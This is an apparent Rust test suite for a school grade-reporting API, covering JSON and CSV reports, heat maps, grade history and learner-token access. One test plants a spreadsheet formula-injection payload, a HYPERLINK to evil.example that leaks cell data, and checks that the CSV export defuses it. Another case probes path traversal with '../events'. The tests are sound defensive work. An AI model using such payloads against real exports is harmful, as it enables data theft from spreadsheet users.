//! Reports over results: numbers that are known, as JSON and as CSV, and who sees them.

use super::sealing::sealed;
use super::{balanced, post};
use crate::envelopes::{CONTEXT, assessed, bytes, graded};
use crate::world::{Answer, Call, Member, World};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use vernier_ledger::access::Scope;
use vernier_ledger::digest::Fingerprint;
use vernier_ledger::ports::Results;
use vernier_ledger::results::{Cause, Register, Registers, ResultKey, Score};
use vernier_ledger::time::Millis;
use vernier_validation::{Mode, Profile};

const SECTION: &str = "https://school.example/sections/3";

fn learner(name: &str) -> String {
    format!("https://school.example/users/{name}")
}

fn assignment(name: &str) -> String {
    format!("{SECTION}/assignments/{name}")
}

fn report(name: &str) -> Call {
    let call = Call::get("/reports/{report}").id(name);
    match name.starts_with("sections") {
        true => call,
        false => call.query("section", SECTION),
    }
}

async fn asked<W: World>(world: &W, member: &Member, call: Call) -> Answer {
    let answer = world.call(call.token(&member.secret)).await;
    let shown = String::from_utf8_lossy(&answer.body);
    assert_eq!(answer.status, 200, "{shown}");
    answer
}

/// Two learners, a quiz graded twice and a second attempt, an essay that is only submitted.
async fn semester<W: World>(world: &W) -> Member {
    let member = world.tenant(Mode::Strict, Profile::Generic).await;
    let mut second = graded("jane", "quiz", 9.0, "2026-11-21T10:00:00.000Z");
    let id = format!("{}/users/jane/attempts/2", assignment("quiz"));
    second["object"]["id"] = json!(id);
    second["object"]["count"] = json!(2);
    let events = [
        assessed("jane", "quiz", "Started", "2026-11-20T09:00:00.000Z"),
        assessed("jane", "quiz", "Submitted", "2026-11-20T09:30:00.000Z"),
        graded("jane", "quiz", 5.0, "2026-11-20T10:00:00.000Z"),
        graded("jane", "quiz", 8.5, "2026-11-20T12:00:00.000Z"),
        second,
        assessed("jane", "essay", "Submitted", "2026-11-20T11:00:00.000Z"),
        graded("joe", "quiz", 2.0, "2026-11-20T10:00:00.000Z"),
    ];
    post(world, &member, bytes(&events)).await;
    assert_eq!(balanced(world, &member, 7).await, [7, 7, 0, 0, 0]);
    member
}

/// Each attempt with its score, the essay without; nothing of others.
pub async fn a_learners_assignments_are_reported<W: World>(world: &W) {
    let member = semester(world).await;
    let call = report("assignments").query("learner", &learner("jane"));
    let found = asked(world, &member, call.clone()).await.json();
    assert_eq!(found["section"], SECTION);
    assert_eq!(found["learner"], learner("jane"));
    assert_eq!(found["provisional"], true);
    assert!(found.get("complete_through").is_some() && found.get("live_through").is_some());
    let [essay, quiz] = [0, 1].map(|n| &found["assignments"][n]);
    assert_eq!(essay["assignment"], assignment("essay"));
    let essay = &essay["attempts"][0];
    assert_eq!(essay["status"], "Submitted");
    assert_eq!([&essay["score"], &essay["percent"]], [&Value::Null; 2]);
    assert_eq!(quiz["attempts"].as_array().map(Vec::len), Some(2));
    let [first, second] = [0, 1].map(|n| &quiz["attempts"][n]);
    let expected = json!({
        "attempt": format!("{}/users/jane/attempts/1", assignment("quiz")),
        "count": 1, "status": "Graded", "score": 8.5, "maximum": 10.0, "percent": 85.0,
        "scored_by": "https://school.example/autograder",
        "scored_at": "2026-11-20T12:00:00.000Z",
        "started_at": "2026-11-20T09:00:00.000Z", "submitted_at": "2026-11-20T09:30:00.000Z",
        "time_spent_seconds": first["time_spent_seconds"], "parts": [],
    });
    assert_eq!(*first, expected);
    assert_eq!(
        [&second["count"], &second["score"]],
        [&json!(2), &json!(9.0)]
    );
    let only = call.clone().query("assignment", &assignment("essay"));
    let only = asked(world, &member, only).await.json();
    assert_eq!(only["assignments"].as_array().map(Vec::len), Some(1));

    let csv = asked(world, &member, call.header("accept", "text/csv")).await;
    let csv = String::from_utf8(csv.body).expect("text");
    assert_eq!(csv.lines().count(), 4, "{csv}");
    assert!(csv.contains(",Graded,8.5,10.0,85.0,"), "{csv}");
}

/// Learner by assignment; of two attempts the one that was scored last.
pub async fn a_sections_grades_are_reported<W: World>(world: &W) {
    let member = semester(world).await;
    let found = asked(world, &member, report("grades")).await.json();
    let names = ["essay", "quiz"].map(assignment);
    assert_eq!(found["assignments"], json!(names));
    assert_eq!(found["more"], false);
    let [jane, joe] = [0, 1].map(|n| &found["learners"][n]);
    assert_eq!(
        [&jane["learner"], &joe["learner"]],
        [&learner("jane"), &learner("joe")]
    );
    let quiz = &jane["grades"][1];
    let part = ["score", "maximum", "percent", "attempts", "status"].map(|n| quiz[n].clone());
    let expected = [
        json!(9.0),
        json!(10.0),
        json!(90.0),
        json!(2),
        json!("Graded"),
    ];
    assert_eq!(part, expected);
    assert_eq!(joe["grades"][0], Value::Null);
    assert_eq!(joe["grades"][1]["percent"], 20.0);
    let rest = report("grades").query("after", &learner("jane"));
    let rest = asked(world, &member, rest).await.json();
    assert_eq!(rest["learners"], json!([joe]));

    let csv = asked(world, &member, report("grades.csv")).await;
    assert_eq!(csv.header("content-type"), "text/csv; charset=utf-8");
    assert_eq!(
        csv.header("content-disposition"),
        "attachment; filename=\"grades.csv\""
    );
    assert_eq!(csv.header("vernier-more"), "false");
    let text = String::from_utf8(csv.body).expect("text");
    let quiz = assignment("quiz");
    let jane = learner("jane");
    let expected = format!("{jane},{quiz},9.0,10.0,90.0,2,Graded,");
    assert!(
        text.lines().any(|line| line.starts_with(&expected)),
        "{text}"
    );
    assert_eq!(text.lines().count(), 4, "{text}");
}

/// What the four reports over events say of the semester and one grade that came late.
async fn check_events<W: World>(world: &W, member: &Member, is_sealed: bool) {
    let found = asked(world, member, report("sections")).await;
    assert!(found.header("vernier-reads").starts_with("gets="));
    let found = found.json();
    // A deployed stack seals while it is asked.
    assert!(!is_sealed || found["provisional"] == false, "{found}");
    assert!(found["live_through"].is_string());
    let section = json!({
        "section": SECTION, "events": 8, "active_learners": 2,
        "last_event_at": "2026-11-21T10:00:00.000Z",
    });
    assert_eq!(found["sections"], json!([section]));

    let hours = |found: &Value| [9, 10, 11, 12].map(|hour| found["events"][4][hour].clone());
    let call = || report("activity").query("learner", &learner("jane"));
    let found = asked(world, member, call()).await.json();
    assert_eq!(
        [&found["zone"], &found["total"]],
        [&json!("UTC"), &json!(3)]
    );
    assert_eq!(hours(&found), [2, 0, 1, 0].map(|n| json!(n)), "a Friday");
    let found = asked(world, member, call().query("zone", "Europe/Berlin")).await;
    assert_eq!(hours(&found.json()), [0, 2, 0, 1].map(|n| json!(n)));

    for (bucket, least) in [("hour", 168), ("day", 7)] {
        let call = report("usage").query("bucket", bucket);
        let found = asked(world, member, call.clone()).await.json();
        let buckets = found["buckets"].as_array().expect("buckets");
        assert!((least..=least + 1).contains(&buckets.len()), "{found}");
        let sum = |name: &str| -> u64 {
            let counts = buckets.iter().filter_map(|b| b["events"][name].as_u64());
            counts.sum()
        };
        assert_eq!(["GradeEvent", "AssessmentEvent"].map(sum), [5, 3]);
        let csv = asked(world, member, call.header("accept", "text/csv")).await;
        let csv = String::from_utf8(csv.body).expect("text");
        let header = "start,active_learners,events,AssessmentEvent,GradeEvent\r\n";
        assert!(csv.starts_with(header), "{csv}");
        assert_eq!(csv.lines().count(), buckets.len() + 1);
    }
    check_cells(world, member).await;
    check_whole(world, member).await;
    check_history(world, member).await;
}

const DAYS: [&str; 7] = [
    "monday",
    "tuesday",
    "wednesday",
    "thursday",
    "friday",
    "saturday",
    "sunday",
];

/// What a cell of the heat map counts is what the events of its weekday and hour are.
async fn check_cells<W: World>(world: &W, member: &Member) {
    let jane = learner("jane");
    for zone in ["UTC", "Europe/Berlin", "Asia/Kathmandu"] {
        let call = report("activity").query("learner", &jane);
        let counted = asked(world, member, call.query("zone", zone)).await.json();
        let in_cell = |day: Option<usize>, hour: Option<usize>| {
            let mut call = Call::get("/events").query("group", SECTION);
            call = call.query("actor", &jane).query("zone", zone);
            if let Some(day) = day {
                call = call.query("weekday", DAYS[day]);
            }
            if let Some(hour) = hour {
                call = call.query("hour", &hour.to_string());
            }
            async { asked(world, member, call).await.json() }
        };
        let mut of_friday = 0;
        for hour in [9, 10, 11, 12, 14, 15, 16] {
            let count = &counted["events"][4][hour];
            let found = in_cell(Some(4), Some(hour)).await;
            let events = found["events"].as_array().expect("events").len();
            assert_eq!(json!(events), *count, "{zone}, Friday at {hour}: {found}");
            of_friday += events;
        }
        let friday = in_cell(Some(4), None).await;
        let friday = friday["events"].as_array().expect("events").len();
        assert_eq!((friday, of_friday), (3, 3), "{zone}");
        let at_nine = in_cell(None, Some(9)).await;
        let of_days = counted["events"].as_array().expect("days").iter();
        let nines: u64 = of_days.filter_map(|hours| hours[9].as_u64()).sum();
        assert_eq!(
            at_nine["events"].as_array().expect("events").len() as u64,
            nines
        );
    }
    for (name, value) in [("hour", "24"), ("weekday", "funday"), ("zone", "Mars/Base")] {
        let call = Call::get("/events").query(name, value);
        let refused = world.call(call.token(&member.secret)).await;
        assert_eq!(refused.status, 400, "{name}={value}");
        assert!(refused.json()["detail"].to_string().contains(name));
    }
}

/// Of the whole tenant: what was described is in no count, and is no section.
async fn check_whole<W: World>(world: &W, member: &Member) {
    let whole = |name: &str| Call::get("/reports/{report}").id(name);
    let found = asked(world, member, whole("activity")).await.json();
    assert_eq!(found["total"], 8);
    let found = asked(world, member, whole("usage").query("bucket", "day")).await;
    let found = found.json();
    let buckets = found["buckets"].as_array().expect("buckets").iter();
    let types = buckets.filter_map(|bucket| bucket["events"].as_object());
    let types: BTreeSet<&str> = types.flatten().map(|(name, _)| name.as_str()).collect();
    assert_eq!(types, BTreeSet::from(["AssessmentEvent", "GradeEvent"]));
}

/// The grade that came late changed nothing.
async fn check_history<W: World>(world: &W, member: &Member) {
    let call = report("history").query("learner", &learner("jane"));
    let call = call.query("assignment", &assignment("quiz"));
    let found = asked(world, member, call.clone()).await.json();
    let changes = found["changes"].as_array().expect("changes");
    let all: Vec<Value> = changes
        .iter()
        .map(|c| json!([c["event_time"], c["action"], c["score"], c["changed"]]))
        .collect();
    let at = |time: &str| format!("2026-11-{time}:00.000Z");
    let expected = [
        json!([
            at("20T09:00"),
            "Started",
            null,
            ["status", "started", "count"]
        ]),
        json!([at("20T09:30"), "Submitted", null, changes[1]["changed"]]),
        json!([at("20T10:00"), "Graded", 5.0, ["score", "status", "count"]]),
        json!([at("20T11:30"), "Graded", 1.0, []]),
        json!([at("20T12:00"), "Graded", 8.5, ["score", "status", "count"]]),
        json!([at("21T10:00"), "Graded", 9.0, ["score", "status", "count"]]),
    ];
    assert_eq!(all, expected, "{found}");
    assert_eq!(changes[4]["scored_by"], "https://school.example/autograder");
    let one = call.query(
        "attempt",
        &format!("{}/users/jane/attempts/2", assignment("quiz")),
    );
    let one = asked(world, member, one).await.json();
    assert_eq!(one["changes"], json!([changes[5]]));
}

/// The same numbers before the window is sealed and after, whatever is described beside the events.
pub async fn events_are_reported_live_and_sealed<W: World>(world: &W) {
    let member = semester(world).await;
    let late = graded("jane", "quiz", 1.0, "2026-11-20T11:30:00.000Z");
    let [section, person] = [(SECTION, "CourseSection"), (&learner("jane"), "Person")]
        .map(|(id, name)| json!({"@context": CONTEXT, "id": id, "type": name}));
    post(world, &member, bytes(&[late, section, person])).await;
    assert_eq!(balanced(world, &member, 10).await, [10, 10, 0, 0, 0]);
    check_events(world, &member, false).await;
    let verified = sealed(world, &member, 10).await;
    assert_eq!(verified.findings, []);
    check_events(world, &member, true).await;
}

/// Ids that a spreadsheet would run stay text.
pub async fn formulas_in_ids_stay_text<W: World>(world: &W) {
    let member = world.tenant(Mode::Strict, Profile::Generic).await;
    let tenant = member.tenant.parse().expect("a tenant's name");
    let cause = Cause::new(Millis(1), Some("e"), &Fingerprint::of(b""));
    let value = Score {
        given: Some(-1.5),
        maximum: None,
        by: None,
    };
    let registers = Registers {
        score: Some(Register { value, cause }),
        ..Registers::default()
    };
    let key = ResultKey {
        section: Some(SECTION.to_owned()),
        learner: "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")".to_owned(),
        assignment: Some("@SUM(1,2)\r\n+3".to_owned()),
        attempt: None,
    };
    let merged = world.results().merge(&tenant, &key, &registers).await;
    merged.expect("merged");
    let csv = asked(world, &member, report("grades.csv")).await;
    let csv = String::from_utf8(csv.body).expect("text");
    let cells =
        "\"'=HYPERLINK(\"\"https://evil.example?\"\"&A1,\"\"x\"\")\",\"'@SUM(1,2)\r\n+3\",-1.5,";
    assert!(csv.contains(cells), "{csv}");
}

/// A learner's token: its own assignments, whether it says so or not; no class.
pub async fn a_learners_token_reports_on_its_learner<W: World>(world: &W) {
    let member = semester(world).await;
    let scopes = [Scope::ReportsRead];
    let joe = learner("joe");
    let token = world.learner_token(&member.tenant, &joe, &scopes).await;
    for call in [
        report("assignments"),
        report("assignments").query("learner", &learner("joe")),
    ] {
        let found = asked(world, &token, call).await.json();
        assert_eq!(found["learner"], learner("joe"));
        assert_eq!(found["assignments"][0]["attempts"][0]["score"], 2.0);
    }
    let own = asked(world, &token, report("history")).await.json();
    let scores: Vec<_> = own["changes"].as_array().expect("changes").iter().collect();
    assert_eq!(
        scores.iter().map(|c| &c["score"]).collect::<Vec<_>>(),
        [2.0]
    );
    let own = asked(world, &token, report("activity")).await.json();
    assert_eq!(own["total"], 0, "others graded");
    for call in [
        report("assignments").query("learner", &learner("jane")),
        report("assignments.csv").query("learner", &learner("jane")),
        report("grades"),
        report("grades.csv"),
        Call::get("/reports/{report}").id("sections"),
        report("usage").query("bucket", "day"),
        report("activity").query("learner", &learner("jane")),
        report("history.csv").query("learner", &learner("jane")),
    ] {
        let answer = world.call(call.token(&token.secret)).await;
        assert_eq!(answer.status, 403, "{}", answer.json());
        assert!(!String::from_utf8_lossy(&answer.body).contains("8.5"));
    }
}

/// What is missing, unknown, twice there or no report at all is refused by its name.
pub async fn bad_report_requests_are_refused<W: World>(world: &W) {
    let member = world.tenant(Mode::Strict, Profile::Generic).await;
    let plain = |name: &str| Call::get("/reports/{report}").id(name);
    let long = "x".repeat(3_000);
    for (call, status, named) in [
        (plain("assignments"), 400, "section"),
        (report("assignments"), 400, "learner"),
        (report("assignments").query("learner", ""), 400, "learner"),
        (report("grades").query("after", &long), 400, "after"),
        (report("grades").query("learner", "x"), 400, "learner"),
        (report("grades").query("section", "y"), 400, "section"),
        (report("usage"), 400, "bucket"),
        (report("usage").query("bucket", "year"), 400, "bucket"),
        (report("activity").query("zone", "Mars/Base"), 400, "zone"),
        (
            report("activity").query("from", "2020-01-01T00:00:00Z"),
            400,
            "from",
        ),
        (report("history"), 400, "learner"),
        (plain("history").query("learner", "x"), 400, "section"),
        (plain("sections").query("section", "x"), 400, "section"),
        (plain("nonsense"), 404, "no route"),
        (plain("grades.xls"), 404, "no route"),
        // A gateway may decode the path before it looks for the route.
        (plain("../events"), 404, "no "),
    ] {
        let answer = world.call(call.clone().token(&member.secret)).await;
        let detail = answer.json()["detail"].to_string();
        assert_eq!(answer.status, status, "{call:?}: {detail}");
        assert!(detail.contains(named), "{call:?}: {detail}");
    }
    let nobody = report("assignments").query("learner", "nobody");
    let nobody = asked(world, &member, nobody).await.json();
    assert_eq!(nobody["assignments"], json!([]));
    let nowhere = plain("grades").query("section", "");
    let nowhere = asked(world, &member, nowhere).await.json();
    assert_eq!(
        [&nowhere["section"], &nowhere["learners"]],
        [&Value::Null, &json!([])]
    );
}
